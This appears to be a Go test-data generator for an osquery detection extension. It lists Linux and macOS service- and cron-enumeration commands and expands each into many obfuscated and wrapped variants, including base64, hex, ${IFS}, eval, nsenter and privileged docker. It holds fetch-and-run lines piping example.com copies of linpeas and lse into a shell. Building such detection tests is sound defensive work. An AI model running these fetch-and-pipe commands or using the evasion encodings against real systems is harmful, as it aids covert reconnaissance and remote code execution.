package variants

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
)

// words are the bases that are simple commands of literal words.
func words(bases []base) []base {
	for i := range bases {
		if !strings.ContainsAny(bases[i].line.text, "'\"\\$`|&;<>(){}*?[]#~!\n") {
			bases[i].line.argv = strings.Fields(bases[i].line.text)
		}
	}
	return bases
}

// shaped sets the shape of bases that are not simple commands.
func shaped(s shape, bases []base) []base {
	for i := range bases {
		bases[i].line.shape = s
	}
	return bases
}

var linux = language{name: "linux", platform: evidence.Linux, spellings: unixSpellings, wrappings: append(unixWrappings, linuxWrappings...), records: unixRecords, bases: flatten(
	words(flatten(
		asks("systemctl", "all", "systemctl", "systemctl list-units", "systemctl --type=service", "systemctl -t service", "systemctl --type service --state running",
			"systemctl list-units --type=service --all", "systemctl -a --no-pager", "systemctl --no-legend --plain list-units -t service,socket", "systemctl list-unit-files",
			"systemctl list-unit-files --state=enabled", "systemctl --failed", "systemctl --state=failed", "systemctl list-timers --all", "systemctl list-sockets",
			"systemctl list-paths", "systemctl list-dependencies", "systemctl status", "systemctl --user list-units", "systemctl --root=/mnt list-unit-files", "systemctl -l --full"),
		asksOf("web07", "systemctl", "all", "systemctl -H root@web07 list-units", "systemctl --host=web07 --type=service"),
		asks("systemctl one", "single", "systemctl status nginx", "systemctl is-active sshd.service", "systemctl is-enabled cups", "systemctl show -p MainPID cron",
			"systemctl cat sshd", "systemctl --quiet is-failed nginx", "systemctl list-units sshd.service", "systemctl list-dependencies nginx"),
		asks("sysv", "all", "service --status-all", "service -e", "chkconfig --list", "chkconfig", "sysv-rc-conf --list"),
		asks("sysv one", "single", "service nginx status", "chkconfig --list nginx", "invoke-rc.d cron status", "/etc/init.d/ssh status", "/etc/rc.d/init.d/network status"),
		asks("openrc", "all", "rc-status", "rc-status --all", "rc-service --list", "rc-service -l", "rc-update show", "rc-update"),
		asks("openrc one", "single", "rc-service sshd status"),
		asks("upstart", "all", "initctl list", "initctl show-config"),
		asks("upstart one", "single", "initctl status ssh"),
		asks("supervision", "all", "s6-rc -a list", "s6-rc-db list services", "dinitctl list", "supervisorctl status", "supervisorctl status all", "svcs -a", "lssrc -a"),
		asks("supervision one", "single", "sv status nginx", "s6-svstat /run/service/sshd", "supervisorctl status web"),
		asks("systemd tools", "all", "systemd-analyze blame", "systemd-analyze critical-chain", "systemd-analyze security", "systemd-analyze dump", "systemd-cgls", "systemd-cgtop -b -n 1"),
		asks("d-bus", "all", "busctl", "busctl list", "busctl --system list --no-pager", "busctl tree org.freedesktop.systemd1",
			"busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager ListUnits",
			"dbus-send --system --print-reply --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.ListUnitFiles",
			"gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.ListUnits",
			"dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListActivatableNames"),
		asks("directories", "files", "ls -la /etc/init.d", "ls /etc/init.d/", "ls -ld /etc/rc0.d /etc/rc1.d /etc/rc2.d", "ls -la /usr/local/etc/rc.d", "ls -lthR /lib/systemd/", "ls /etc/systemd/system",
			"ls -1 /usr/lib/systemd/system", "ls /etc/systemd/system/multi-user.target.wants", "ls /run/systemd/transient", "ls -l /etc/runlevels/default", "ls /var/service", "ls /etc/sv",
			"ls /home/al/.config/systemd/user", "find /etc/init.d/ -type f", "find /lib/systemd/ -uid 0 -type f", "find /etc/systemd/system -name nginx.service -prune -o -print",
			"tree /usr/lib/systemd/system", "grep -r ExecStart /etc/systemd/system", "grep -ERh ^Exec /etc/systemd/ /lib/systemd/", "dir /etc/init.d", "ls /etc/xinetd.d", "du -a /etc/init.d"),
		asks("cron", "cron", "crontab -l", "crontab -u root -l", "crontab -lu www-data"),
		asks("tools", "tool", "./linpeas.sh", "bash linpeas.sh -a", "sh /tmp/lse.sh -l1", "/dev/shm/LinEnum.sh -t", "python3 linuxprivchecker.py"),
		isNot("acting", "systemctl restart nginx", "systemctl start nginx", "systemctl stop nginx.service", "systemctl reload nginx", "systemctl enable --now nginx", "systemctl disable nginx",
			"systemctl mask nginx", "systemctl daemon-reload", "systemctl kill -s HUP rsyslog", "systemctl reboot", "systemctl set-default graphical.target", "systemctl isolate rescue.target",
			"systemctl edit nginx", "systemctl link /opt/x.service", "systemctl reset-failed", "systemctl preset-all", "systemctl --user start app.service", "systemctl daemon-reexec",
			"service nginx restart", "service nginx start", "chkconfig nginx on", "chkconfig --add nginx", "chkconfig --del nginx", "update-rc.d nginx defaults", "rc-service sshd restart",
			"rc-update add sshd default", "initctl start ssh", "initctl reload-configuration", "sv restart nginx", "s6-rc -u change sshd", "supervisorctl restart web", "/etc/init.d/ssh restart",
			"invoke-rc.d cron restart", "crontab -e", "crontab -r", "crontab /tmp/new.cron", "crontab -"),
		isNot("naming", "echo systemctl list-units", "printf systemctl", "man systemctl", "man 1 systemctl", "info systemctl", "apropos systemctl", "whatis systemctl", "which systemctl", "type systemctl", "command -v systemctl",
			"whereis systemctl", "hash systemctl", "grep systemctl /root/.bash_history", "grep -r systemctl /usr/share/doc", "fgrep service notes.txt", "cat /etc/services", "less /usr/bin/systemctl", "file /usr/bin/systemctl",
			"ls -l /usr/bin/systemctl", "ls /tmp/systemctl", "stat /etc/init.d/ssh", "cat /etc/init.d/ssh", "cat /etc/systemd/system/nginx.service", "vim /etc/init.d/ssh", "nano /etc/systemd/system/x.service",
			"cp x.service /etc/systemd/system/", "rm /etc/systemd/system/x.service", "chmod 644 /etc/systemd/system/x.service", "touch /etc/systemd/system/x.service", "ln -s /opt/x.service /etc/systemd/system/x.service",
			"apt-get install systemctl-tui", "apt install -y systemd", "dnf install initscripts", "pacman -Qo /usr/bin/systemctl", "dpkg -S /etc/init.d/ssh", "rpm -qf /usr/bin/systemctl",
			"git commit -m systemctl", "git add etc/systemd/system", "git log -- service", "./systemctl-wrapper list", "python3 service.py --list", "make service", "npm run services",
			"cd /etc/init.d", "mkdir -p /etc/systemd/system", "test -f /etc/init.d/ssh", "wget http://example.com/linpeas.sh", "chmod +x linpeas.sh", "rm -f linpeas.sh", "vi linpeas.sh", "scp linpeas.sh al@web01:/tmp", "sha256sum ./linpeas.sh", "code LinEnum.sh", "kubectl cp linpeas.sh pod:/tmp"),
		isNot("neighbours", "systemctl --version", "systemctl --help", "systemctl get-default", "systemctl is-system-running", "systemctl show-environment", "systemctl list-units --type=mount", "systemctl list-jobs", "systemd-analyze", "systemd-analyze verify x.service",
			"systemd-analyze calendar daily", "systemd-detect-virt", "systemd-resolve --status", "busctl status", "busctl introspect org.freedesktop.login1 /org/freedesktop/login1", "journalctl -u nginx", "journalctl -b", "loginctl list-sessions", "resolvectl status",
			"service", "service --version", "rc-status --help", "ls -la /etc", "ls /etc/systemd/network", "ls /usr/lib", "ls", "find /etc -name passwd", "find / -perm -4000", "ps aux", "top -b -n 1", "docker ps", "crontab --help",
			"dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.ListSessions"),
	)),
	asks("systemctl", "all", "systemctl show '*' -p Id,ExecStart", "systemctl cat '*.service'", "systemctl list-units '*.service'", "systemctl list-unit-files '*'"),
	asks("systemctl one", "single", "systemctl status 'ssh*'", `systemctl show "nginx.service"`),
	asks("directories", "files", "ls /etc/systemd/system/*.service", "ls -l /etc/rc*.d", "ls /etc/rc3.d/S*", "ls -l /etc/rc[0-6].d", "cat /etc/init.d/*", "grep -l User=root /etc/systemd/system/*.service", `find / -name '*.service' -type f`,
		`find / -iname "*.timer"`, `find /etc/init.d/ \! -uid 0 -type f`, "echo /etc/init.d/*", "stat -c %U /etc/init.d/*", "ls ~/.config/systemd/user", "ls /etc/systemd/system/*.wants"),
	asks("supervision", "all", "sv status /etc/service/*"),
	shaped(compound, flatten(
		asks("loops", "files", "for f in /etc/init.d/*; do echo $f; done", `for f in /etc/systemd/system/*.service; do cat "$f"; done`, "cd /etc/init.d && ls -l", "cd /etc/systemd/system; for u in *; do echo $u; done",
			"(cd /lib/systemd/system && grep ExecStart *.service)", `find /etc/systemd -name '*.service' | xargs cat`),
		asks("loops", "all", "for u in $(systemctl list-unit-files --no-legend | cut -d' ' -f1); do systemctl show $u; done", "systemctl list-units | awk '{print $1}' | xargs systemctl status",
			`while read -r u; do echo "$u"; done < <(systemctl list-units --plain)`, `units=$(systemctl list-units --no-legend); echo "$units"`, "service --status-all 2>&1 | grep '+'", "systemctl list-units --type=service | tee /dev/null | wc -l"),
		asks("cron", "cron", "for u in $(cut -d: -f1 /etc/passwd); do crontab -l -u $u; done", "cut -d: -f1 /etc/passwd | xargs -n1 crontab -l -u"),
		asks("tools", "tool", "curl -fsSL http://example.com/linpeas.sh | sh", "wget -qO- http://example.com/lse.sh | bash -s -- -l1", "chmod +x linpeas.sh && ./linpeas.sh", "cat LinEnum.sh | bash"),
		asks("processes", "process", "ps -eo pid,unit,cmd | sort"),
		isNot("naming", "echo 'systemctl list-units' | wc -c", "echo 'run systemctl list-units' > notes.txt", "history | grep systemctl", "x='systemctl list-units'; echo done", "grep -c 'systemctl list-units' /root/.bash_history", "git commit -m 'list with systemctl list-units; service --status-all'",
			"alias u='systemctl list-units'", "logger 'service --status-all'", "echo ok || ls /nowhere", "printf '%s' 'ls /etc/init.d'",
			"echo 'systemctl list-units' > /tmp/units.sh", "echo 'systemctl list-units' >> run.sh; chmod +x run.sh; sh other.sh"),
		isNot("acting", "crontab -l | sed s/a/b/ | crontab -", "(crontab -l; echo '* * * * * true') | crontab -", "systemctl daemon-reload && systemctl restart nginx", "for u in a b; do systemctl restart $u; done"),
	)),
	shaped(whole, isNot("naming", "# systemctl list-units", "true # service --status-all", "cat <<EOF\nsystemctl list-units\nEOF")),
)}

var unixSpellings = []change{
	rewrite("full path", func(s string) string {
		word, rest := splitWord(s)
		if strings.Contains(word, "/") || isBuiltin(word) {
			return ""
		}
		return "/usr/bin/" + word + rest
	}),
	rewrite("double blanks", func(s string) string { return strings.Replace(s, " ", "   ", 1) }),
	rewrite("tabs", func(s string) string { return strings.ReplaceAll(s, " ", "\t") }),
	rewrite("split quotes", insideWord(`""`)).hiding(hidden),
	rewrite("split apostrophes", func(s string) string {
		word, rest := splitWord(s)
		if len(word) < 3 || strings.ContainsAny(word[:2], "./") {
			return ""
		}
		return word[:1] + "'" + word[1:2] + "'" + word[2:] + rest
	}).hiding(hidden),
	rewrite("quoted program", func(s string) string { word, rest := splitWord(s); return `"` + word + `"` + rest }),
	rewrite("escaped letter", func(s string) string {
		if len(s) < 2 || strings.ContainsAny(s[1:2], "abefnrtvx0123456789") {
			return "" // may be meant as a control character
		}
		return insideWord(`\`)(s)
	}).hiding(hidden),
	rewrite("escaped first letter", func(s string) string { return `\` + s }), // skips an alias: usual
	rewrite("${IFS}", func(s string) string {
		if strings.ContainsAny(s, "'\"") {
			return ""
		}
		return strings.ReplaceAll(s, " ", "${IFS}")
	}).hiding(hidden),
	rewrite("$IFS$9", func(s string) string {
		if strings.ContainsAny(s, "'\"") {
			return ""
		}
		return strings.ReplaceAll(s, " ", "$IFS$9")
	}).hiding(hidden),
	rewrite("$'\\x'", func(s string) string {
		word, rest := splitWord(s)
		var b strings.Builder
		for i := range len(word) {
			fmt.Fprintf(&b, `\x%02x`, word[i])
		}
		return "$'" + b.String() + "'" + rest
	}).hiding(hidden),
	rewrite("empty variable", insideWord("${nothing}")).hiding(hidden).only(),
	rewrite("$@", insideWord("$@")).hiding(hidden).only(),
	recompose("variables", func(s string) string {
		word, rest := splitWord(s)
		if len(word) < 2 || isBuiltin(word) && word != "echo" && word != "ls" {
			return ""
		}
		return "a=" + word[:1] + ";b=" + word[1:] + "; $a${b}" + rest
	}).hiding(hidden),
	recompose("substring", func(s string) string {
		word, rest := splitWord(s)
		return "x=zz" + word + "zz; ${x:2:" + fmt.Sprint(len(word)) + "}" + rest
	}).hiding(hidden),
	rewrite("printf", func(s string) string {
		word, rest := splitWord(s)
		var b strings.Builder
		for i := range len(word) {
			fmt.Fprintf(&b, `\%03o`, word[i])
		}
		return "$(printf '" + b.String() + "')" + rest
	}).hiding(hidden),
	recompose("assignment before", func(s string) string { return "LC_ALL=C SYSTEMD_PAGER= " + s }),
	around("output dropped", "%s 2>/dev/null"),
}

// isBuiltin reports words that name no program in /usr/bin.
func isBuiltin(word string) bool {
	switch word {
	case "type", "command", "hash", "cd", "echo", "printf", "test", "service", "history", "alias":
		return true
	}
	return false
}

var unixWrappings = []change{
	prefix("sudo", "sudo"), prefix("sudo with options", "sudo", "-n", "-u", "root", "-E", "--"), prefix("sudo long options", "sudo", "--user=www-data", "--non-interactive"), prefix("sudo assignment", "sudo", "LANG=C"),
	prefix("env", "env", "LC_ALL=C", "A=b"), prefix("env -i", "env", "-i", "-u", "HOME", "PATH=/usr/bin"), prefix("nohup", "nohup"), prefix("nice", "nice", "-n", "19"), prefix("nice old", "nice", "-10"),
	prefix("time", "/usr/bin/time", "-p"), prefix("exec", "exec"), prefix("command", "command"), prefix("caffeinate", "caffeinate", "-i"),
	script("sh -c", "sh", "-c", "%s"), script("bash -lc", "/bin/bash", "-lc", "%s"), script("bash options", "bash", "--norc", "-o", "pipefail", "-e", "-c", "%s"), script("zsh -c", "zsh", "-f", "-c", "%s"), script("sudo sh -c", "sudo", "sh", "-c", "%s"),
	script("su -c", "su", "-", "root", "-c", "%s"), script("su -c before user", "su", "-c", "%s", "root"), script("env sh -c", "/usr/bin/env", "sh", "-c", "%s"),
	script("ssh", "ssh", "-p", "22", "-o", "StrictHostKeyChecking=no", "root@web01", "%s").on("web01"), script("ssh -l", "ssh", "-tt", "-l", "al", "db02.example.com", "%s").on("db02.example.com"), script("sshpass", "sshpass", "-p", "x", "ssh", "al@web03", "%s").on("web03"),
	script("eval", "eval", "%s").hiding(hidden),
	{name: "base64 | sh", hides: hidden, apply: func(l line) (line, bool) {
		return line{text: "echo " + base64.StdEncoding.EncodeToString([]byte(l.text)) + " | base64 -d | bash", shape: compound}, true
	}},
	{name: "base64 in eval", hides: hidden, apply: func(l line) (line, bool) {
		return line{text: `eval "$(echo ` + base64.StdEncoding.EncodeToString([]byte(l.text)) + ` | base64 --decode)"`, shape: compound}, true
	}},
	{name: "base64 <<<", hides: hidden, apply: func(l line) (line, bool) {
		return line{text: `bash -c "$(base64 -d <<< ` + base64.StdEncoding.EncodeToString([]byte(l.text)) + `)"`, shape: compound}, true
	}},
	{name: "xxd -r | sh", hides: hidden, apply: func(l line) (line, bool) {
		return line{text: fmt.Sprintf("echo %x | xxd -r -p | sh", l.text), shape: compound}, true
	}},
	{name: "rev | sh", hides: hidden, apply: func(l line) (line, bool) {
		r := []rune(l.text)
		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
			r[i], r[j] = r[j], r[i]
		}
		return line{text: "echo " + shellQuote(string(r)) + " | rev | sh", shape: compound}, !strings.Contains(l.text, "\n")
	}},
	{name: "echo | sh", apply: func(l line) (line, bool) {
		return line{text: "echo " + shellQuote(l.text) + " | sh", shape: compound}, !strings.Contains(l.text, `\`)
	}},
	{name: "printf | bash", apply: func(l line) (line, bool) {
		return line{text: "printf '%s\\n' " + shellQuote(l.text) + " | bash -s", shape: compound}, true
	}},
	{name: "here document", apply: func(l line) (line, bool) {
		return line{text: "sh <<'EOF'\n" + l.text + "\nEOF", shape: whole}, !strings.Contains(l.text, "EOF")
	}},
	{name: "here string", apply: func(l line) (line, bool) {
		return line{text: "bash <<< " + shellQuote(l.text), shape: compound}, true
	}},
	around("and", "cd / && %s"), around("or", "false || %s"), around("sequence", "id; %s; uname -a"), around("background", "%s &"), around("piped", "%s | head -50"), around("piped twice", "%s 2>&1 | sort | uniq -c"),
	around("subshell", "(%s) 2>/dev/null"), around("braces", "{ %s; }"), around("substitution", `x=$( %s ); test -n "$x"`), around("backquotes", "x=`%s`"), around("in quotes", `echo "$( %s )"`).hiding(either), around("process substitution", "cat <(%s)"),
	around("loop", "for i in 1 2; do %s; done"), around("while", "while true; do %s; sleep 5; done"), around("function", "f() { %s; }; f"), around("if", "if true; then %s; fi"), around("else", "if false; then :; else %s; fi"), around("condition", "if %s; then echo up; fi"),
	around("case", "case x in x) %s;; esac"), around("negated", "! %s"), around("time keyword", "time %s"), around("trap", "trap '' INT; %s"),
	around("written to a file", "%s > /tmp/out.txt").noisy(),
	{name: "script", apply: func(l line) (line, bool) {
		return line{text: "echo " + shellQuote(l.text) + " > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh", shape: compound}, !strings.Contains(l.text, `\`)
	}},
	{name: "script by sh", apply: func(l line) (line, bool) {
		return line{text: "cat > x.sh <<'EOF'\n" + l.text + "\nEOF\nsh ./x.sh", shape: whole}, !strings.Contains(l.text, "EOF")
	}},
	{name: "python", apply: interpreter("python3", "-c", "import os; os.system(%s)", '"')},
	{name: "python subprocess", apply: interpreter("python", "-c", "import subprocess; print(subprocess.check_output(%s, shell=True))", '"')},
	{name: "perl", apply: interpreter("perl", "-e", "system(%s)", '\'')},
	{name: "ruby", apply: interpreter("ruby", "-e", "puts `%s`", 0)},
	{name: "awk", apply: interpreter("awk", "", "BEGIN { system(%s) }", '"')},
	{name: "php", apply: interpreter("php", "-r", "system(%s);", '"')},
	{name: "find -exec", apply: prefixOf("find", "/", "-maxdepth", "0", "-exec", "%", ";")},
}

var linuxWrappings = []change{
	prefix("doas", "doas", "-u", "root"), prefix("pkexec", "pkexec", "--user", "root"), prefix("timeout", "timeout", "-k", "3", "5s"), prefix("timeout signal", "timeout", "--signal=KILL", "10"), prefix("setsid", "setsid", "-w"), prefix("stdbuf", "stdbuf", "-oL", "-e0"),
	prefix("ionice", "ionice", "-c", "3"), prefix("taskset", "taskset", "-c", "0"), prefix("chrt", "chrt", "-b", "0"), prefix("unbuffer", "unbuffer"), prefix("strace", "strace", "-f", "-o", "/dev/null"), prefix("flock", "flock", "/tmp/l"),
	prefix("chroot", "chroot", "/mnt"), prefix("chroot user", "chroot", "--userspec=0:0", "/mnt"), prefix("nsenter", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "--"), prefix("nsenter long", "nsenter", "--target", "1", "--mount", "--pid"), prefix("unshare", "unshare", "-m", "--fork"),
	prefix("runuser", "runuser", "-u", "www-data", "--"), prefix("setpriv", "setpriv", "--reuid=0"), prefix("systemd-run", "systemd-run", "--quiet", "--pipe", "--wait"), prefix("systemd-run unit", "systemd-run", "--unit=x", "-p", "User=root"), prefix("systemd-cat", "systemd-cat", "-t", "x"),
	prefix("busybox", "busybox"), prefix("dbus-run-session", "dbus-run-session", "--"), prefix("env nohup timeout", "env", "A=1", "nohup", "timeout", "5"),
	prefix("docker exec", "docker", "exec", "-it", "-u", "root", "web"), prefix("docker run", "docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine"), prefix("podman exec", "podman", "exec", "web"), prefix("kubectl exec", "kubectl", "-n", "prod", "exec", "pod/web", "-c", "app", "--"),
	prefix("lxc exec", "lxc", "exec", "c1", "--"), prefix("crictl exec", "crictl", "exec", "-i", "0a1b2c"),
	script("busybox sh -c", "busybox", "sh", "-c", "%s"), script("script -c", "script", "-q", "-c", "%s", "/dev/null"), script("script -qc", "script", "-qc", "%s", "/dev/null"), script("watch", "watch", "-n", "5", "%s"), script("runuser -c", "runuser", "-l", "al", "-c", "%s"),
	script("flock -c", "flock", "/tmp/l", "-c", "%s"), script("docker sh -c", "docker", "exec", "web", "sh", "-c", "%s"), script("nsenter sh -c", "nsenter", "-t1", "-m", "sh", "-c", "%s"), script("systemd-run sh -c", "systemd-run", "-P", "sh", "-c", "%s"), script("parallel", "parallel", "-j1", "--", "%s"),
	{name: "xargs", apply: func(l line) (line, bool) {
		return line{text: "true | xargs -r " + l.text, shape: compound}, l.shape == simple && !strings.HasPrefix(l.text, "cd ")
	}},
	{name: "xargs sh -c", apply: func(l line) (line, bool) {
		return line{text: "echo x | xargs -I{} sh -c " + shellQuote(l.text), shape: compound}, true
	}},
	{name: "at", apply: func(l line) (line, bool) {
		return line{text: "echo " + shellQuote(l.text) + " | at now", shape: compound}, !strings.Contains(l.text, `\`)
	}},
}

// interpreter puts the command into a one-liner of a script language.
func interpreter(program, flag, format string, quote byte) func(line) (line, bool) {
	return func(l line) (line, bool) {
		literal := l.text
		if quote != 0 {
			literal = string(quote) + l.text + string(quote)
		}
		argv := []string{program, flag, strings.ReplaceAll(format, "%s", literal)}
		if flag == "" {
			argv = []string{program, argv[2]}
		}
		quoted := make([]string, len(argv))
		for i, a := range argv {
			quoted[i] = shellQuote(a)
		}
		// Languages escape differently: nothing that needs it.
		return line{text: strings.Join(quoted, " "), argv: argv}, !strings.ContainsAny(l.text, "'\"\\$@`\n{}")
	}
}

// prefixOf puts words around a simple command: "%" is where.
func prefixOf(words ...string) func(line) (line, bool) {
	return func(l line) (line, bool) {
		if l.argv == nil {
			return l, false
		}
		var argv, quoted []string
		for _, w := range words {
			if w == "%" {
				argv = append(argv, l.argv...)
				continue
			}
			argv = append(argv, w)
		}
		for _, a := range argv {
			quoted = append(quoted, shellQuote(a))
		}
		return line{text: strings.Join(quoted, " "), argv: argv}, true
	}
}

// osascript puts the command into AppleScript.
func osascript(behind string) func(line) (line, bool) {
	return func(l line) (line, bool) {
		argv := []string{"osascript", "-e", `do shell script "` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(l.text) + `"` + behind}
		return line{text: argv[0] + " " + argv[1] + " " + shellQuote(argv[2]), argv: argv}, true
	}
}

// unixRecords are how sources show the process of a simple command.
var unixRecords = []change{
	{name: "audit", apply: func(l line) (line, bool) {
		if l.argv == nil || isBuiltin(l.argv[0]) || l.argv[0] == "eval" || l.argv[0] == "exec" {
			return l, false
		}
		l.path, l.joined = image(l.argv[0]), true
		l.text = strings.Join(l.argv, " ")
		return l, true
	}},
	{name: "quoted with image", apply: func(l line) (line, bool) {
		if l.argv == nil || isBuiltin(l.argv[0]) || l.argv[0] == "eval" || l.argv[0] == "exec" {
			return l, false
		}
		l.path = image(l.argv[0])
		return l, true
	}},
}

func image(program string) string {
	if strings.HasPrefix(program, "/") {
		return program
	}
	if strings.HasPrefix(program, "./") {
		return "/tmp" + program[1:]
	}
	return "/usr/bin/" + program
}

var macos = language{name: "macos", platform: evidence.Darwin, spellings: unixSpellings, records: unixRecords, wrappings: append([]change{
	prefix("asuser", "launchctl", "asuser", "501"), {name: "osascript", apply: osascript("")}, {name: "osascript admin", apply: osascript(" with administrator privileges")},
	prefix("script", "script", "-q", "/dev/null"), prefix("arch", "arch", "-x86_64"),
}, unixWrappings...), bases: flatten(
	words(flatten(
		asks("launchctl", "all", "launchctl list", "launchctl print system", "launchctl print user/501", "launchctl print gui/501/", "launchctl dumpstate", "launchctl print-disabled system", "launchctl print-cache", "launchctl bslist"),
		asks("launchctl one", "single", "launchctl list com.apple.Finder", "launchctl print system/com.openssh.sshd", "launchctl print gui/501/com.example.agent", "launchctl blame system/com.apple.x"),
		asks("brew", "all", "brew services", "brew services list", "brew services --json", "brew services info --all"),
		asks("directories", "files", "ls -la /Library/LaunchDaemons", "ls /Library/LaunchAgents/", "ls -l /System/Library/LaunchDaemons /Library/LaunchAgents", "ls /Users/al/Library/LaunchAgents", "find /Library/LaunchDaemons -name com.evil.plist -o -print",
			"grep -r RunAtLoad /Library/LaunchAgents", "tree /Library/LaunchDaemons", "find / -name LaunchDaemons", "sfltool dumpbtm"),
		asks("cron", "cron", "crontab -l"),
		isNot("acting", "launchctl load -w /Library/LaunchDaemons/x.plist", "launchctl unload /Library/LaunchDaemons/x.plist", "launchctl bootstrap system /Library/LaunchDaemons/x.plist", "launchctl bootout gui/501/com.x", "launchctl kickstart -k system/com.x",
			"launchctl enable system/com.x", "launchctl start com.x", "launchctl stop com.x", "launchctl submit -l x -- /bin/true", "launchctl remove com.x", "launchctl setenv A b", "brew services start nginx", "brew services restart nginx", "brew services stop --all", "brew services cleanup"),
		isNot("naming", "echo launchctl list", "man launchctl", "which launchctl", "grep launchctl /Users/al/.zsh_history", "ls /Library", "ls /System/Library", "cat /Library/LaunchDaemons/com.x.plist", "plutil -lint /Library/LaunchAgents/com.x.plist", "cp x.plist /Library/LaunchDaemons/",
			"rm /Library/LaunchAgents/x.plist", "vim /Library/LaunchDaemons/x.plist", "mkdir -p /Users/al/Library/LaunchAgents", "ls /Library/LaunchDaemons/com.x.plist", "git add LaunchDaemons/x.plist", "defaults read com.apple.dock"),
		isNot("neighbours", "launchctl version", "launchctl help", "launchctl getenv PATH", "launchctl managerpid", "launchctl limit", "brew list", "brew install services", "ps aux", "pmset -g", "scutil --dns"),
	)),
	asks("directories", "files", "ls ~/Library/LaunchAgents", "plutil -p /Library/LaunchDaemons/*.plist", "cat /Library/LaunchAgents/*", `find /System/Library/LaunchDaemons -name "*.plist"`, "ls $HOME/Library/LaunchAgents"),
	shaped(compound, flatten(
		asks("directories", "files", "for p in /Library/LaunchDaemons/*.plist; do defaults read $p; done", "cd /Library/LaunchDaemons && ls"),
		asks("launchctl", "all", "launchctl list | grep -v com.apple", "launchctl print gui/$(id -u)"),
		asks("processes", "process", "ps aux | grep com.apple.", "ps -ef | grep -i launchd"),
		isNot("naming", "echo 'launchctl list' >> notes.txt", "x='launchctl list'; echo done", "git commit -m 'launchctl list'"),
	)),
)}
